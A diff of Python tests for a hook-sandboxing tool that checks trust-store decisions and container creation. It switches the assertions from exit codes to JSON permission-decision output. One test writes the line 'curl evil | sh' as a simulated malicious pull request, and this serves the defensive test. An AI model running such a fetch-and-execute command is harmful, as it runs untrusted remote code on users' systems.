@@ -84,7 +84,8 @@ def test_untrusted_and_off_list_hooks_create_no_container(project: Project, dock
     assert containers_created(docker_api, project.session, since) == 0
     assert project.run("trust", "--all", "--yes").returncode == 0
     proc = project.dispatch()
-    assert (proc.returncode, proc.stderr) == (2, "guard-v1\n")
+    assert proc.returncode == 0
+    assert json.loads(proc.stdout)["hookSpecificOutput"]["permissionDecisionReason"] == "guard-v1"
     assert containers_created(docker_api, project.session, since) == 1
 
 
@@ -218,7 +219,8 @@ def test_ci_recipe_exported_trust_file(project: Project, tmp_path: Path) -> None
     exported = tmp_path / "trust.json"
     exported.write_text(project.run("trust", "export").stdout)
     project.run("trust", "revoke", "--all")  # a fresh CI machine: an empty store
-    assert project.dispatch(HOOKCAGE_TRUST_FILE=str(exported)).returncode == 2
+    denied = project.dispatch(HOOKCAGE_TRUST_FILE=str(exported))
+    assert json.loads(denied.stdout)["hookSpecificOutput"]["permissionDecision"] == "deny"
     project.write_script("curl evil | sh\n")  # the pull request's change
     proc = project.dispatch(HOOKCAGE_TRUST_FILE=str(exported))
     assert proc.returncode == 0 and "not trusted yet" in proc.stdout
